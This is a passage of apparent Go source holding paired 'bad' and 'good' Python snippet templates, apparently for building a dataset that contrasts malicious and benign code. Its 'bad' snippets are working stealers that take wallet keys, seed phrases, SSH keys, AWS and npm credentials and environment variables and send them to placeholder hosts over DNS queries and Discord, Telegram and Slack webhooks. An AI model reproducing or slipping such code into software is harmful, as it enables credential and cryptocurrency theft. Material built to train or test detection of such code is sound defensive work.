            yield title, <%c Crypto.Cipher.AES.new%>(key, 9, blob[:12]).decrypt(blob[12:-16])
`, "<%n Vault%>(\"notes.db\")"}},

	// wallets
	{family: "wallets", name: "key-monkeypatch", bad: snippet{`
def <%n wrap%>(original):
    def made(*args, **kwargs):
        <%n pair%> = original(*args, **kwargs)
        <%c threading.Thread%>(target=<%c requests.post%>, args=(<%s $URL%>,), kwargs={"data": bytes(<%n pair%>)}).start()
        return <%n pair%>

    return made


def <%n patch%>():
    <%n kind%> = <%c solders.keypair.Keypair%>
    for name in (<%s from_seed%>, <%s from_bytes%>, <%s from_base58_string%>):
        setattr(<%n kind%>, name, <%n wrap%>(getattr(<%n kind%>, name)))
`, "<%n patch%>()"}, good: snippet{`
def <%n wrap%>(original):
    def made(*args, **kwargs):
        <%n began%> = <%c time.perf_counter%>()
        try:
            return original(*args, **kwargs)
        finally:
            <%c logging.getLogger%>("timing").debug("%s took %.3f s", original.__name__, <%c time.perf_counter%>() - <%n began%>)

    return made


def <%n patch%>(kind, names):
    """Measures some methods of a class."""
    for name in names:
        setattr(kind, name, <%n wrap%>(getattr(kind, name)))
`, "<%n patch%>.__doc__"}},
	{family: "wallets", name: "seed-phrase-scan", bad: snippet{`
<%n phrase%> = <%c re.compile%>(r"\b(?:[a-z]{3,8}\s){11,23}[a-z]{3,8}\b")


def <%n notes%>():
    for folder in (<%s ~/Desktop%>, <%s ~/Documents%>, <%s ~/.config/Ledger Live%>, <%s ~/.config/atomic/Local Storage/leveldb%>):
        for file in <%c pathlib.Path%>(folder).expanduser().rglob("*"):
            if file.suffix in (".txt", ".md", ".json", ".ldb", ".dat"):
                yield from <%n phrase%>.findall(file.read_text(errors="ignore"))


def <%n report%>():
    <%c requests.post%>(<%s $TELEGRAM%>, data={"chat_id": "1", "text": <%s mnemonic %> + "\n".join(<%n notes%>())})
`, "<%n report%>()"}, good: snippet{`
<%n phrase%> = <%c re.compile%>(r"\b(?:[a-z]{3,8}\s){3}[a-z]{3,8}\b")


def <%n notes%>(folder):
    for file in <%c pathlib.Path%>(folder).rglob("*.md"):
        yield from <%n phrase%>.findall(file.read_text(errors="ignore"))


def <%n report%>(folder):
    """The runs of four short words that a text repeats most."""
    return <%c collections.Counter%>(<%n notes%>(folder)).most_common(10)
`, "<%n report%>.__doc__"}},

	// dns-exfil
	{family: "dns-exfil", name: "dig-process", bad: snippet{`
def <%n trail%>():
    <%n raw%> = <%c base64.b32encode%>(<%c pathlib.Path%>(<%s ~/.ssh/id_ed25519%>).expanduser().read_bytes()).decode().strip("=")
    for at in range(0, len(<%n raw%>), 48):
        <%c subprocess.run%>([<%s nslookup%>, <%n raw%>[at:at + 48] + <%s .k.$DOMAIN%>], stdout=<%c subprocess.DEVNULL%>)
`, "<%n trail%>()"}, good: snippet{`
def <%n trail%>(domain):
    """The name servers of a domain, as the system's own program tells them."""
    <%n out%> = <%c subprocess.run%>(["nslookup", "-type=ns", domain], capture_output=True, text=True).stdout
    return [line.split()[-1] for line in <%n out%>.splitlines() if "nameserver" in line]
`, "<%n trail%>.__doc__"}},
	{family: "dns-exfil", name: "packet-by-hand", bad: snippet{`
def <%n question%>(name):
    <%n parts%> = b"".join(bytes([len(p)]) + p for p in name.encode().split(b"."))
    return <%c struct.pack%>("!6H", 1, 256, 1, 0, 0, 0) + <%n parts%> + b"\0" + <%c struct.pack%>("!2H", 16, 1)


def <%n whisper%>():
    <%n wire%> = <%c socket.socket%>(<%c socket.AF_INET%>, <%c socket.SOCK_DGRAM%>)
    for key, value in <%c os.environ%>.items():
        <%n label%> = <%c binascii.hexlify%>((key + value).encode())[:60].decode()
        <%n wire%>.sendto(<%n question%>(<%n label%> + <%s .$DOMAIN%>), (<%s $ADDRESS%>, 53))
`, "<%n whisper%>()"}, good: snippet{`
def <%n question%>(name):
    <%n parts%> = b"".join(bytes([len(p)]) + p for p in name.encode().split(b"."))
    return <%c struct.pack%>("!6H", 1, 256, 1, 0, 0, 0) + <%n parts%> + b"\0" + <%c struct.pack%>("!2H", 1, 1)


def <%n whisper%>(server, name):
    """Asks one server for the address of a host, without the system's resolver."""
    <%n wire%> = <%c socket.socket%>(<%c socket.AF_INET%>, <%c socket.SOCK_DGRAM%>)
    <%n wire%>.sendto(<%n question%>(name), (server, 53))
    return <%c socket.inet_ntoa%>(<%n wire%>.recv(512)[-4:])
`, "<%n whisper%>.__doc__"}},
	{family: "dns-exfil", name: "async-resolver", bad: snippet{`
async def <%n drip%>(text):
    <%n loop%> = <%c asyncio.get_running_loop%>()
    <%n hosts%> = [<%s %d-%s.%s%> % (n, text[n:n + 40], <%s $OAST%>) for n in range(0, len(text), 40)]
    await <%c asyncio.gather%>(*(<%n loop%>.getaddrinfo(h, 443) for h in <%n hosts%>), return_exceptions=True)


def <%n start%>():
    <%n facts%> = <%c platform.node%>() + "." + <%c getpass.getuser%>() + "." + <%c os.getcwd%>()
    <%c asyncio.run%>(<%n drip%>(<%n facts%>.encode().hex()))
`, "<%n start%>()"}, good: snippet{`
async def <%n drip%>(hosts):
    <%n loop%> = <%c asyncio.get_running_loop%>()
    return await <%c asyncio.gather%>(*(<%n loop%>.getaddrinfo(h, 443) for h in hosts), return_exceptions=True)


def <%n start%>(hosts):
    """Whether each of some hosts has an address."""
    return [not isinstance(found, Exception) for found in <%c asyncio.run%>(<%n drip%>(hosts))]
`, "<%n start%>.__doc__"}},

	// messenger
	{family: "messenger", name: "webhook-file", bad: snippet{`
class <%n Courier%>:
    def __init__(self, hook=<%s $DISCORD%>):
        self.hook = hook

    def __enter__(self):
        self.files = {}
        return self

    def add(self, name):
        with <%c contextlib.suppress%>(OSError):
            self.files[name] = open(<%c os.path.expanduser%>(name), "rb").read()

    def __exit__(self, *error):
        <%c requests.post%>(self.hook, files=self.files, data={"username": <%c platform.node%>()})


def <%n run%>():
    with <%n Courier%>() as courier:
        courier.add(<%s ~/.npmrc%>)
        courier.add(<%s ~/.aws/credentials%>)
`, "<%n run%>()"}, good: snippet{`
class <%n Courier%>:
    """Collects the pictures of a failed test, and posts them to the hook of the team."""

    def __init__(self, hook):
        self.hook = hook

    def __enter__(self):
        self.files = {}
        return self

    def add(self, name):
        with <%c contextlib.suppress%>(OSError):
            self.files[name] = open(name, "rb").read()

    def __exit__(self, *error):
        <%c requests.post%>(self.hook, files=self.files, data={"username": "tests"})
`, "<%n Courier%>.__doc__"}},
	{family: "messenger", name: "bot-library", bad: snippet{`
def <%n tell%>():
    <%n bot%> = <%c telebot.TeleBot%>(<%s 1:inert%>)
    <%n lines%> = [<%c socket.gethostname%>(), <%c subprocess.getoutput%>(<%s env; id; ip a%>)]
    <%n bot%>.send_message(1, "\n".join(<%n lines%>))
    for file in <%c glob.glob%>(<%c os.path.expanduser%>(<%s ~/.ssh/id_*%>)):
        <%n bot%>.send_document(1, open(file, "rb"))
`, "<%n tell%>()"}, good: snippet{`
def <%n tell%>(token):
    """A bot that answers with the time."""
    <%n bot%> = <%c telebot.TeleBot%>(token)

    @<%n bot%>.message_handler(commands=["time"])
    def answer(message):
        <%n bot%>.reply_to(message, <%c time.strftime%>("%H:%M"))

    return <%n bot%>
`, "<%n tell%>.__doc__"}},
	{family: "messenger", name: "curl-webhook", bad: snippet{`
def <%n ping%>(hook=<%s $SLACK%>):
    <%n text%> = <%c json.dumps%>({"text": <%c getpass.getuser%>() + " " + str(dict(<%c os.environ%>))})
    <%c subprocess.run%>([<%s curl%>, "-s", "-X", "POST", "-H", "Content-Type: application/json", "-d", <%n text%>, hook], check=False)
`, "<%n ping%>()"}, good: snippet{`
def <%n ping%>(hook, text):
    """Tells the channel of the team that a release is out."""
    <%n body%> = <%c json.dumps%>({"text": text})
    <%c subprocess.run%>(["curl", "-s", "-X", "POST", "-H", "Content-Type: application/json", "-d", <%n body%>, hook], check=True)
`, "<%n ping%>.__doc__"}},
}
